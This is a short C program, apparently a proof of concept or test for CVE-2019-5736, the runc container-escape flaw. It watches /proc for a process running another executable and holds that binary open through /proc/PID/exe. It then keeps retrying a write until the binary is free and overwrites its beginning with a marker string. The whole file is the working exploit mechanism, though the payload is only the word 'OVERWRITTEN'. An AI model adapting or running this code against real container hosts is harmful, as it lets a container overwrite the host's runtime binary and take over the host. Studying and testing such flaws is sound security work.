/*
 * Waits for a process that executes another file than this one's own, opens that file by way of /proc/PID/exe, and
 * overwrites its beginning as soon as nobody executes it any more (CVE-2019-5736).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int strange(void)
{
	struct stat own, its;
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	char path[64];

	stat("/proc/self/exe", &own);
	for (;;) {
		rewinddir(proc);
		while ((entry = readdir(proc))) {
			int fd;

			if (atoi(entry->d_name) <= 0)
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			fd = open(path, O_PATH);
			if (fd < 0)
				continue;
			if (fstat(fd, &its) == 0 && (its.st_dev != own.st_dev || its.st_ino != own.st_ino))
				return fd;
			close(fd);
		}
	}
}

int main(void)
{
	char path[64], link[256] = "";
	int fd, writing, i;

	puts("waiting");
	fflush(stdout);
	fd = strange();
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	readlink(path, link, sizeof(link) - 1);
	printf("caught %s\n", link);
	for (i = 0; i < 3000; i++) {
		writing = open(path, O_WRONLY);
		if (writing >= 0 || errno != ETXTBSY)
			break;
		usleep(1000);
	}
	if (writing >= 0 && write(writing, "OVERWRITTEN", 11) == 11)
		puts("end: OVERWRITTEN");
	else
		printf("end: unwritable: %s\n", strerror(errno));
	fflush(stdout);
	pause();
	return 0;
}
